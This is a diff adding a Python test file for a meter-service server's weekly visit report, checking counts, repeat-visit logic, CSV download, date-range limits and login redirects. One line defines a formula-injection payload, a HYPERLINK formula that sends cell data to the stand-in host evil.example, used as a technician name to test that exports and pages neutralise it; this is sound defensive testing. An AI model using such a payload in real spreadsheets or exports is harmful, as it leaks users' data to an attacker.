@@ -1,0 +1,173 @@
+"""The weekly report over visits pushed through the real API: the numbers per technician
+and ISO week, the repeat-visit window, the CSV (same rows, a download, formula-safe), the
+date-range form's limits, roles."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from typing import Any
+
+import pytest
+
+from syncserver.web.reports import CSV_COLUMNS, spreadsheet_safe
+from tests.server.conftest import World, add_user, op, visit
+from tests.server.web_helpers import login
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"<b>click</b>")'
+RANGE = "since=2026-11-16&until=2026-12-27"  # ISO weeks 47 to 52
+
+
+def _v(visit_id: str, technician: str, meter: str, start: str, end: str | None, outcome: str,
+       checks: list[dict[str, str]]) -> dict[str, Any]:  # fmt: skip
+    worst = "fail" if any(c["status"] == "fail" for c in checks) else (
+        "warn" if any(c["status"] == "warn" for c in checks) else "pass"
+    )  # fmt: skip
+    return visit(
+        visit_id,
+        work_order=None,
+        technician=technician,
+        meter_number=meter,
+        started_at=start,
+        ended_at=end,
+        saved_at=end or start,
+        outcome=outcome,
+        checks=checks,
+        verdict=worst,
+    )
+
+
+def _fail(check: str) -> dict[str, str]:
+    return {"id": check, "status": "fail", "message": "bad"}
+
+
+def _seed(world: World) -> None:
+    add_user(world.database, EVIL, "technician")
+    device, headers = world.enroll(EVIL)
+    ours = [
+        # Before the range: it makes the evil technician's visit below a repeat.
+        _v("a0", "demo-tech", "M2S-0034567", "2026-11-13T09:00:00Z", "2026-11-13T09:15:00Z",
+           "resolved", []),
+        _v("a1", "demo-tech", "M2S-0012345", "2026-11-16T09:00:00Z", "2026-11-16T09:30:00Z",
+           "resolved", [_fail("polarity"), _fail("voltage")]),
+        _v("a2", "demo-tech", "M2S-0012345", "2026-11-20T10:00:00Z", "2026-11-20T10:45:00Z",
+           "follow_up", [{"id": "clock_drift", "status": "warn", "message": "fast"}]),
+        _v("a3", "demo-tech", "M16-0065432", "2026-11-23T08:00:00Z", None, "no_access", []),
+        # 31 days after a2: past the 30-day window, not a repeat.
+        _v("a4", "demo-tech", "M2S-0012345", "2026-12-21T09:00:00Z", "2026-12-21T09:10:00Z",
+           "resolved", []),
+    ]  # fmt: skip
+    answer = world.push(world.tech, world.tech_device, [op(f"op-{d['visit_id']}", d) for d in ours])
+    assert {r["status"] for r in answer.json()["results"]} == {"applied"}, answer.text
+    theirs = _v("h1", EVIL, "M2S-0034567", "2026-11-24T13:00:00Z", "2026-11-24T13:20:00Z",
+                "resolved", [])  # fmt: skip
+    answer = world.push(headers, device, [op("op-h1", theirs)])
+    assert answer.json()["results"][0]["status"] == "applied", answer.text
+
+
+def _csv(world: World, query: str) -> list[dict[str, str]]:
+    answer = world.client.get(f"/reports.csv?{query}")
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["content-type"].startswith("text/csv")
+    disposition = answer.headers["content-disposition"]
+    assert re.fullmatch(
+        r'attachment; filename="fieldkit-report-[\d-]+-to-[\d-]+\.csv"', disposition
+    )
+    if query == RANGE:
+        assert "2026-11-16-to-2026-12-27" in disposition
+    rows = list(csv.DictReader(io.StringIO(answer.text)))
+    return rows
+
+
+def test_the_report_counts_each_technicians_weeks(world: World) -> None:
+    _seed(world)
+    login(world.client, "olga")
+    rows = _csv(world, RANGE)
+    got = {
+        (r["technician"], r["iso_week"]): (
+            int(r["visits"]), int(r["outcome_resolved"]), int(r["outcome_follow_up"]),
+            int(r["outcome_no_access"]), int(r["visits_with_failed_check"]),
+            int(r["checks_failed"]), int(r["timed_visits"]), r["hours_on_site"],
+            r["minutes_per_visit"], int(r["repeat_visits"]),
+        )
+        for r in rows
+    }  # fmt: skip
+    assert got == {
+        ("'" + EVIL, "2026-W48"): (1, 1, 0, 0, 0, 0, 1, "0.33", "20.0", 1),
+        ("demo-tech", "2026-W47"): (2, 1, 1, 0, 1, 2, 2, "1.25", "37.5", 1),
+        ("demo-tech", "2026-W48"): (1, 0, 0, 1, 0, 0, 0, "0.00", "", 0),
+        ("demo-tech", "2026-W52"): (1, 1, 0, 0, 0, 0, 1, "0.17", "10.0", 0),
+    }
+    assert [r["week_start"] for r in rows if r["technician"] == "demo-tech"] == [
+        "2026-11-16", "2026-11-23", "2026-12-21",
+    ]  # fmt: skip
+    # One ISO week alone (the benchmark's ?week=), from any day in it.
+    one = _csv(world, "week=2026-11-19")
+    assert [(r["technician"], r["iso_week"], r["visits"]) for r in one] == [
+        ("demo-tech", "2026-W47", "2")
+    ]
+
+
+def test_the_csv_is_formula_safe_and_the_page_escapes(world: World) -> None:
+    _seed(world)
+    login(world.client, "olga")
+    answer = world.client.get(f"/reports.csv?{RANGE}")
+    lines = answer.text.splitlines()
+    assert lines[0] == ",".join(CSV_COLUMNS)
+    evil = [r for r in csv.reader(io.StringIO(answer.text)) if "HYPERLINK" in r[0]]
+    assert len(evil) == 1
+    assert evil[0][0] == "'" + EVIL  # a spreadsheet shows it as text, never runs it
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in evil for cell in row)
+    page = world.client.get(f"/reports?{RANGE}")
+    assert page.status_code == 200
+    assert "<b>click</b>" not in page.text
+    assert "&lt;b&gt;click&lt;/b&gt;" in page.text
+    # The chart: one bar segment per technician and week with visits, the legend escaped.
+    bars = re.findall(r'<rect class="bar" [^>]*data-week="([^"]+)" data-series="([^"]+)" '
+                      r'data-value="(\d+)"', page.text)  # fmt: skip
+    assert sorted((w, v) for w, _, v in bars) == [
+        ("2026-W47", "2"), ("2026-W48", "1"), ("2026-W48", "1"), ("2026-W52", "1"),
+    ]  # fmt: skip
+    assert "30 days before it" in page.text
+    assert f'href="/reports.csv?{RANGE.replace("&", "&amp;")}"' in page.text
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("demo-tech", "demo-tech"),
+        ("a=b", "a=b"),
+        (12, "12"),
+        (None, ""),
+    ],
+)
+def test_spreadsheet_safe(cell: object, safe: str) -> None:
+    assert spreadsheet_safe(cell) == safe
+
+
+def test_the_range_form_refuses_what_it_cannot_show(world: World) -> None:
+    login(world.client, "olga")
+    backwards = world.client.get("/reports?since=2026-12-01&until=2026-11-01")
+    assert backwards.status_code == 400
+    assert "start is after its end" in backwards.text
+    long = world.client.get("/reports.csv?since=2025-01-01&until=2026-12-01")
+    assert long.status_code == 400
+    assert "at most 26 weeks" in long.text
+    assert world.client.get("/reports?since=yesterday").status_code == 400
+    empty = world.client.get("/reports?since=2020-01-06&until=2020-01-12")
+    assert "No visits in these weeks" in empty.text
+
+
+def test_logged_out_and_tokens_are_sent_to_login(world: World) -> None:
+    for headers in ({}, world.tech, world.admin):
+        for path in ("/reports", "/reports.csv"):
+            answer = world.client.get(path, headers=headers, follow_redirects=False)
+            assert answer.status_code == 303
+            assert answer.headers["location"].startswith("/login?next=/reports")
